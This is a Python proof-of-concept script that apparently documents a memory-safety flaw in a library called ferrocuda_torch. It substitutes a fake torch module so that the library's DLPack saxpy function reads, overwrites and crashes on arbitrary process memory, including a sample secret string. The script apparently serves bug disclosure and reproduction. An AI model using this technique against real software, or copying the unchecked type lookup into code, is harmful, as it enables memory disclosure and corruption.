"""G21R-2 (runs without torch): ferrocuda_torch takes "torch's C methods" from mutable Python
attributes. native.rs's `api()` looks up `torch._C.TensorBase` (and `data_ptr`, `numel`, ... on
it) through `sys.modules["torch"]` on first use; `is_tensor` asks `PyType_IsSubtype(type(obj),
that class)`. Whatever class sits there decides which objects are "tensors" and supplies their
address and length: a plain Python class makes the DLPack functions read and write any address.
Safe Python only (no ctypes); here `torch` is a module object of ours because torch is not
installed on this machine. repro_real_torch.py does the same with PyTorch installed, by
assigning torch._C.TensorBase (a module attribute, writable like any other).

usage: python3 repro_fake_torch.py [leak|write|crash]   (PYTHONPATH = the extracted wheel)
"""
import subprocess
import sys
import types

import numpy as np

from ferrocuda_torch import dlpack as ft  # NumPy-only use: torch is not installed


class Base:
    """Stands where ferrocuda_torch expects torch._C.TensorBase."""

    def __init__(self, address, numel):
        self.address, self.n = address, numel

    def data_ptr(self):
        return self.address

    def numel(self):
        return self.n

    def element_size(self):
        return 4

    def is_contiguous(self):
        return True

    def is_floating_point(self):
        return True

    def size(self):
        return [self.n]

    def is_neg(self):
        return False

    def get_device(self):
        return -1

    def record_stream(self, stream):
        pass

    requires_grad = property(lambda self: False)
    device = property(lambda self: "cpu")
    is_cuda = property(lambda self: False)
    is_cpu = property(lambda self: True)


class Off:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


torch = types.ModuleType("torch")
torch._C = types.SimpleNamespace(TensorBase=Base, DisableTorchFunction=Off, _DisableTorchDispatch=Off)
torch.cuda = types.SimpleNamespace(current_stream=lambda device: None)
sys.modules["torch"] = torch

BYTES_DATA = 32  # CPython 3.11: offset of a bytes object's characters (refcnt, type, size, hash)


def leak():
    secret = b"password=hunter2-and-more-bytes!"  # 32 bytes = 8 float32
    y = np.zeros(8, dtype=np.float32)
    ft.saxpy(1.0, Base(id(secret) + BYTES_DATA, 8), y)  # y = 1 * x + 0, x = the bytes' memory
    print("leak: y's bytes after the call:", y.tobytes())


def write():
    constant = b"immutable bytes object, 32 byte"
    before = bytes(bytearray(constant))  # a real copy (bytes(b) is b itself)
    x = np.frombuffer(b"OVERWRITTEN BY THE DLPACK CALL!!", dtype=np.float32).copy()
    ft.saxpy(1.0, x, Base(id(constant) + BYTES_DATA, 8))  # out = x + out over an immutable bytes object
    print("write: constant was", before, "now", constant, "(equal:", constant == before, ")")


def crash():
    y = np.zeros(1 << 20, dtype=np.float32)
    ft.saxpy(1.0, Base(0x1000, 1 << 20), y)
    print("crash: no fault")


if __name__ == "__main__":
    what = sys.argv[1] if len(sys.argv) > 1 else "all"
    if what == "all":
        for step in ("leak", "write", "crash"):
            r = subprocess.run([sys.executable, __file__, step])
            sig = f" (signal {-r.returncode})" if r.returncode < 0 else ""
            print(f"{step}: exit code {r.returncode}{sig}", flush=True)
    else:
        globals()[what]()
